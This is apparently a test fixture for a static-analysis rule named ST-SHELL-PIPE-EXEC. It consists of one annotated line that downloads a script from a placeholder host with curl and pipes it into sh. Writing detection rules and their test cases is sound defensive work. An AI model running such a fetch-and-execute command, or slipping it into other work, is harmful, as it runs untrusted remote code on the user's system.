# ruleid: ST-SHELL-PIPE-EXEC
curl -s http://collector.example.invalid/i | sh
